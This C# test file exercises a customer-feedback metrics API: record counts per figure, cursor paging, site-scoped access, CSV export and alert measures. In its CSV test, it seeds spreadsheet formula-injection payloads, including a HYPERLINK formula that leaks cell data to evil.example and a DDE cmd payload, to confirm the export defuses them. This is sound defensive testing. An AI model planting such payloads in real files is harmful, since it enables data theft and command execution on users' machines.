using System.Globalization;
using System.Net;
using System.Text;
using System.Text.Json;
using Closeloop.Tests.Infrastructure;

namespace Closeloop.Tests;

/// <summary>GET /api/v1/metrics/records: the records behind each figure, counted exactly as the figure counts them.</summary>
public sealed class MetricRecordsTests
{
    public static TheoryData<string> Providers => TestDatabases.All;

    private static DateTimeOffset At(string text) => DateTimeOffset.Parse(text, CultureInfo.InvariantCulture);

    /// <summary>Responses and contacts over three days, two teams, three agents and two channels, at the edges of days too.</summary>
    private static async Task SeedAsync(HttpClient client, string site)
    {
        var responses = new List<object>();
        var contacts = new List<object>();
        var times = new[] { "2026-10-11T00:00:00Z", "2026-10-11T07:30:00Z", "2026-10-11T23:59:59.999Z", "2026-10-12T12:00:00Z", "2026-10-12T18:45:00Z", "2026-10-13T03:00:00Z", "2026-10-13T22:00:00Z" };
        var metrics = new[] { ("csat", 5), ("csat", 2), ("nps", 9), ("nps", 4), ("ces", 6), ("csat", 4), ("nps", 10) };
        for (var i = 0; i < 21; i++)
        {
            var at = At(times[i % times.Length]).AddMinutes(i / times.Length);
            var (metric, score) = metrics[(i * 3) % metrics.Length];
            var team = i % 2 == 0 ? $"{site}-red" : $"{site}-blue";
            var agent = $"{team}-{i % 3}";
            var channel = i % 4 == 0 ? "chat" : "phone";
            responses.Add(Json.Response(Unique.Id("r"), $"{site}-c{i % 5}", metric, score, comment: $"answer {i}", at: at, site: site, team: team, agent: agent, channel: channel));
            // Contacts on two reasons: a customer coming back within the window fails FCR for the first contact's issue.
            contacts.Add(Json.Contact(Unique.Id("k"), $"{site}-c{i % 4}", channel: channel, at: at, site: site, team: team, agent: agent,
                reason: i % 2 == 0 ? "billing" : "delivery", resolved: i % 5 != 0));
        }
        // Records without a team or agent are grouped under a null key, which the drill-down names "(none)".
        responses.Add(Json.Response(Unique.Id("r"), $"{site}-c9", "csat", 3, at: At("2026-10-12T09:00:00Z"), site: site, channel: "email"));
        contacts.Add(Json.Contact(Unique.Id("k"), $"{site}-c9", channel: "email", at: At("2026-10-12T09:00:00Z"), site: site, reason: "billing"));
        Assert.Equal(HttpStatusCode.OK, (await client.PostJsonAsync("/api/v1/responses/batch", responses)).StatusCode);
        Assert.Equal(HttpStatusCode.OK, (await client.PostJsonAsync("/api/v1/contacts/batch", contacts)).StatusCode);
    }

    private static async Task<long> TotalAsync(HttpClient client, string query)
    {
        var response = await client.GetAsync($"/api/v1/metrics/records?{query}&limit=1");
        Assert.True(response.StatusCode == HttpStatusCode.OK, $"{query}: {(int)response.StatusCode}");
        return (await response.ReadJsonAsync()).GetProperty("total").GetInt64();
    }

    [Theory, MemberData(nameof(Providers))]
    public async Task EveryFiguresRecordsCountEqualsItsN(string provider)
    {
        using var client = TestApp.Shared(provider).Admin();
        var site = Unique.Id("rec");
        await SeedAsync(client, site);

        // Whole days (rollups), partial days at both ends (raw rows), and one partial day alone.
        foreach (var period in new[] { "from=2026-10-11&to=2026-10-13", "from=2026-10-11T07:00:00Z&to=2026-10-13T03:00:00Z", "from=2026-10-12T13:00:00Z&to=2026-10-12T20:00:00Z", "" })
        {
            foreach (var by in new[] { "site", "team", "agent", "channel", "day" })
            {
                var report = await (await client.GetAsync($"/api/v1/metrics?site={site}&groupBy={by}&{period}")).ReadJsonAsync();
                var groups = report.GetProperty("groups").EnumerateArray().ToList();
                Assert.NotEmpty(groups);
                foreach (var group in groups)
                {
                    var key = group.GetProperty("key").GetString() ?? "(none)";
                    foreach (var metric in new[] { "csat", "nps", "ces", "fcr" })
                    {
                        var n = group.GetProperty(metric).GetProperty("n").GetInt64();
                        var total = await TotalAsync(client, $"metric={metric}&{(by == "site" ? "" : $"site={site}&")}{by}={Uri.EscapeDataString(key)}&{period}");
                        Assert.True(n == total, $"{metric} by {by}={key} over '{period}': the figure's n is {n}, the records {total}");
                    }
                }
            }
            var whole = await (await client.GetAsync($"/api/v1/metrics?site={site}&{period}")).ReadJsonAsync();
            foreach (var metric in new[] { "csat", "nps", "ces", "fcr" })
            {
                Assert.Equal(whole.GetProperty("total").GetProperty(metric).GetProperty("n").GetInt64(), await TotalAsync(client, $"metric={metric}&site={site}&{period}"));
            }
        }
    }

    [Theory, MemberData(nameof(Providers))]
    public async Task PagesFollowTheCursorWithoutGapsOrRepeats(string provider)
    {
        using var client = TestApp.Shared(provider).Admin();
        var site = Unique.Id("page");
        await SeedAsync(client, site);
        var total = await TotalAsync(client, $"metric=csat&site={site}");

        var seen = new List<long>();
        string? cursor = null;
        DateTimeOffset? previous = null;
        do
        {
            var page = await (await client.GetAsync($"/api/v1/metrics/records?metric=csat&site={site}&limit=2" + (cursor is null ? "" : $"&cursor={cursor}"))).ReadJsonAsync();
            foreach (var item in page.GetProperty("items").EnumerateArray())
            {
                seen.Add(item.GetProperty("id").GetInt64());
                var at = item.GetProperty("at").GetDateTimeOffset();
                Assert.True(previous is null || at <= previous, "newest first");
                previous = at;
                Assert.Equal(site, item.GetProperty("site").GetString());
                Assert.Equal("csat", item.GetProperty("metric").GetString());
            }
            cursor = page.GetProperty("nextCursor").GetString();
        }
        while (cursor is not null);

        Assert.Equal(total, seen.Count);
        Assert.Equal(seen.Count, seen.Distinct().Count());
    }

    [Theory, MemberData(nameof(Providers))]
    public async Task ASiteScopedKeyGetsOnlyItsOwnSitesRecords(string provider)
    {
        var app = TestApp.Shared(provider);
        using var admin = app.Admin();
        var (mine, theirs) = (Unique.Id("own"), Unique.Id("vendor"));
        await SeedAsync(admin, mine);
        await SeedAsync(admin, theirs);
        using var manager = app.Client(await app.CreateKeyAsync("site_manager", mine));

        var page = await (await manager.GetAsync("/api/v1/metrics/records?metric=csat&from=2026-10-11&to=2026-10-13&limit=500")).ReadJsonAsync();
        var sites = page.GetProperty("items").EnumerateArray().Select(i => i.GetProperty("site").GetString()).Distinct().ToList();
        Assert.Equal([mine], sites);
        Assert.Equal(await TotalAsync(admin, $"metric=csat&site={mine}&from=2026-10-11&to=2026-10-13"), page.GetProperty("total").GetInt64());

        // Another site, or a team or agent of another site, answers as if it did not exist.
        Assert.Equal(HttpStatusCode.NotFound, (await manager.GetAsync($"/api/v1/metrics/records?metric=csat&site={theirs}")).StatusCode);
        Assert.Equal(HttpStatusCode.NotFound, (await manager.GetAsync($"/api/v1/metrics/records?metric=csat&team={theirs}-blue")).StatusCode);

        // A team first seen at the other site but named in a record of this one shows in this site's figures: its records here are listed, theirs not.
        await admin.PostJsonAsync("/api/v1/responses", Json.Response(Unique.Id("r"), Unique.Id("cust"), "csat", 4, site: mine, team: $"{theirs}-red", at: At("2026-10-12T10:00:00Z")));
        var borrowed = await (await manager.GetAsync($"/api/v1/metrics/records?metric=csat&team={theirs}-red")).ReadJsonAsync();
        Assert.Equal(1, borrowed.GetProperty("total").GetInt64());
        Assert.Equal(mine, borrowed.GetProperty("items")[0].GetProperty("site").GetString());
        Assert.Equal(HttpStatusCode.NotFound, (await manager.GetAsync($"/api/v1/metrics/records?metric=fcr&agent={theirs}-red-0")).StatusCode);
        Assert.Equal(HttpStatusCode.NotFound, (await manager.GetAsync($"/api/v1/metrics/records?metric=csat&site={theirs}&format=csv")).StatusCode);

        var csv = await manager.GetStringAsync("/api/v1/metrics/records?metric=nps&format=csv");
        var rows = ParseCsv(csv);
        Assert.True(rows.Count > 1);
        var siteColumn = Array.IndexOf(rows[0], "site");
        Assert.All(rows.Skip(1), r => Assert.Equal(mine, r[siteColumn]));

        // A department reads aggregates only: the records are not theirs to list.
        using var department = app.Client(await app.CreateKeyAsync("department"));
        Assert.Equal(HttpStatusCode.Forbidden, (await department.GetAsync("/api/v1/metrics/records?metric=csat")).StatusCode);
    }

    [Theory, MemberData(nameof(Providers))]
    public async Task CsvQuotesAsRfc4180AndDefusesFormulas(string provider)
    {
        using var client = TestApp.Shared(provider).Admin();
        var site = Unique.Id("csv");
        var comments = new[]
        {
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            "+1 call me",
            "-2+3",
            "@SUM(A1:A9)",
            "plain, with a comma",
            "said \"never again\"\r\nand hung up",
            "fine;=cmd|' /C calc'!A0",
            "fine",
        };
        var batch = comments.Select((c, i) => Json.Response(Unique.Id("r"), $"{site}-cust", "csat", 1 + i % 5, comment: c, site: site, at: At("2026-10-20T10:00:00Z").AddMinutes(i))).ToArray();
        await client.PostJsonAsync("/api/v1/responses/batch", batch);

        var response = await client.GetAsync($"/api/v1/metrics/records?metric=csat&site={site}&format=csv");

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("text/csv", response.Content.Headers.ContentType?.MediaType);
        var text = await response.Content.ReadAsStringAsync();
        Assert.StartsWith("kind,id,external_id,at,customer,site,team,agent,channel,metric,score,comment,", text, StringComparison.Ordinal);
        Assert.Contains("\r\n", text, StringComparison.Ordinal);
        var rows = ParseCsv(text);
        Assert.Equal(comments.Length + 1, rows.Count);
        Assert.All(rows, r => Assert.Equal(rows[0].Length, r.Length));
        var written = rows.Skip(1).Select(r => r[Array.IndexOf(rows[0], "comment")]).ToHashSet();
        Assert.Contains("'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", written);
        Assert.Contains("'+1 call me", written);
        Assert.Contains("'-2+3", written);
        Assert.Contains("'@SUM(A1:A9)", written);
        Assert.Contains("plain, with a comma", written);
        Assert.Contains("said \"never again\"\r\nand hung up", written);
        Assert.Contains("fine", written);
        Assert.Contains("fine;=cmd|' /C calc'!A0", written);
        // The quoting itself, byte for byte; a semicolon is quoted for spreadsheets that split on it.
        Assert.Contains(",\"fine;=cmd|' /C calc'!A0\",", text, StringComparison.Ordinal);
        Assert.Contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"", text, StringComparison.Ordinal);
    }

    [Theory, MemberData(nameof(Providers))]
    public async Task BadParametersAnswer400NamingTheField(string provider)
    {
        using var client = TestApp.Shared(provider).Admin();

        async Task<string[]> Fields(string query)
        {
            var response = await client.GetAsync($"/api/v1/metrics/records?{query}");
            Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
            Assert.Equal("application/problem+json", response.Content.Headers.ContentType?.MediaType);
            return (await response.ReadJsonAsync()).GetProperty("errors").EnumerateObject().Select(p => p.Name).ToArray();
        }

        Assert.Equal(["metric"], await Fields(""));
        Assert.Equal(["metric"], await Fields("metric=happiness"));
        Assert.Equal(["from"], await Fields("metric=csat&from=yesterday"));
        Assert.Equal(["to"], await Fields("metric=csat&from=2026-10-02&to=2026-09-30"));
        Assert.Equal(["day"], await Fields("metric=nps&day=2026-13-45"));
        Assert.Equal(["channel"], await Fields("metric=ces&channel=pigeon"));
        Assert.Equal(["channel"], await Fields("metric=alerts&channel=phone"));
        Assert.Equal(["limit"], await Fields("metric=csat&limit=0"));
        Assert.Equal(["limit"], await Fields("metric=csat&limit=lots"));
        Assert.Equal(["cursor"], await Fields("metric=csat&cursor=abc"));
        Assert.Equal(["format"], await Fields("metric=csat&format=xlsx"));
        Assert.Equal(HttpStatusCode.NotFound, (await client.GetAsync("/api/v1/metrics/records?metric=csat&site=no-such-site")).StatusCode);
    }

    [Theory, MemberData(nameof(Providers))]
    public async Task AlertRecordsMatchTheAlertMeasuresCount(string provider)
    {
        // The shared app, with a rule that fires only for this test's sites, so other tests' data raises no alerts.
        using var admin = TestApp.Shared(provider).Admin();
        var prefix = Unique.Id("alrt");
        var (alpha, beta) = ($"{prefix}-a", $"{prefix}-b");
        // A pool of its own too: a rule is saved only with an owner that exists.
        await admin.CreatePoolAsync(prefix);
        var rule = await admin.PostRawAsync("/api/v1/alert-rules", $$"""
            {"name": "Unhappy at {{prefix}}", "enabled": true, "when": {"all": [{"field": "metric", "op": "eq", "value": "csat"}, {"field": "score", "op": "lte", "value": 2},
             {"field": "site", "op": "startsWith", "value": "{{prefix}}"}]}, "owner": {"kind": "pool", "name": "{{prefix}}"}, "deadline": "PT2H", "clock": "24x7"}
            """);
        Assert.Equal(HttpStatusCode.Created, rule.StatusCode);
        var now = DateTimeOffset.UtcNow;
        var batch = Enumerable.Range(0, 6).Select(i => Json.Response(Unique.Id("r"), Unique.Id("cust"), "csat", i % 2 == 0 ? 1 : 5, site: i < 4 ? alpha : beta,
            team: i < 4 ? $"{alpha}-t" : $"{beta}-t", at: now.AddMinutes(-10 - i))).ToArray();
        await admin.PostJsonAsync("/api/v1/responses/batch", batch);

        async Task<JsonElement> Measures(string site) =>
            (await (await admin.GetAsync($"/api/v1/metrics?site={site}")).ReadJsonAsync()).GetProperty("total").GetProperty("alerts");

        // Alerts are raised as responses arrive; wait (bounded) until the three bad ones have theirs.
        var deadline = DateTime.UtcNow.AddSeconds(15);
        long a, b;
        do
        {
            a = (await Measures(alpha)).GetProperty("n").GetInt64();
            b = (await Measures(beta)).GetProperty("n").GetInt64();
            if (a + b < 3)
            {
                await Task.Delay(50);
            }
        }
        while (a + b < 3 && DateTime.UtcNow < deadline);
        Assert.Equal((2, 1), (a, b));
        Assert.Equal(2, await TotalAsync(admin, $"metric=alerts&site={alpha}"));
        Assert.Equal(1, await TotalAsync(admin, $"metric=alerts&site={beta}"));

        // Each alert measure's n counts its own alerts (acted on, reached, answered a follow-up): the records are those.
        var ids = (await (await admin.GetAsync($"/api/v1/alerts?status=open&site={alpha}")).ReadJsonAsync()).GetProperty("items").EnumerateArray().Select(x => x.GetProperty("id").GetInt64()).ToList();
        Assert.Equal(HttpStatusCode.OK, (await admin.PostJsonAsync($"/api/v1/alerts/{ids[0]}/actions", new { type = "acknowledge" })).StatusCode);
        Assert.Equal(HttpStatusCode.OK, (await admin.PostJsonAsync($"/api/v1/alerts/{ids[1]}/actions", new { type = "customer_reached" })).StatusCode);
        var measures = await Measures(alpha);
        Assert.True(measures.GetProperty("slaAdherence").GetProperty("n").GetInt64() >= 1);
        Assert.Equal(1, measures.GetProperty("timeToFirstContact").GetProperty("n").GetInt64());
        foreach (var (metric, figure) in new[] { ("closed_loop", "closedLoop"), ("sla", "slaAdherence"), ("first_contact", "timeToFirstContact"), ("recovery", "recoveryRate") })
        {
            Assert.Equal(measures.GetProperty(figure).GetProperty("n").GetInt64(), await TotalAsync(admin, $"metric={metric}&site={alpha}"));
        }

        var page = await (await admin.GetAsync($"/api/v1/metrics/records?metric=alerts&team={alpha}-t")).ReadJsonAsync();
        Assert.Equal(2, page.GetProperty("total").GetInt64());
        Assert.All(page.GetProperty("items").EnumerateArray(), x => Assert.Equal("alert", x.GetProperty("kind").GetString()));
    }

    /// <summary>A strict RFC 4180 reader, so the test checks the format rather than trusting a lenient parser.</summary>
    private static List<string[]> ParseCsv(string text)
    {
        var rows = new List<string[]>();
        var row = new List<string>();
        var field = new StringBuilder();
        var i = 0;
        while (i < text.Length)
        {
            if (text[i] == '"' && field.Length == 0)
            {
                i++;
                while (true)
                {
                    if (text[i] == '"')
                    {
                        if (i + 1 < text.Length && text[i + 1] == '"')
                        {
                            field.Append('"');
                            i += 2;
                            continue;
                        }
                        i++;
                        break;
                    }
                    field.Append(text[i++]);
                }
            }
            else if (text[i] == ',')
            {
                row.Add(field.ToString());
                field.Clear();
                i++;
            }
            else if (text[i] == '\r' && i + 1 < text.Length && text[i + 1] == '\n')
            {
                row.Add(field.ToString());
                field.Clear();
                rows.Add([.. row]);
                row.Clear();
                i += 2;
            }
            else
            {
                Assert.NotEqual('"', text[i]);
                Assert.NotEqual('\n', text[i]);
                field.Append(text[i++]);
            }
        }
        Assert.True(row.Count == 0 && field.Length == 0, "every record ends with CRLF");
        return rows;
    }
}
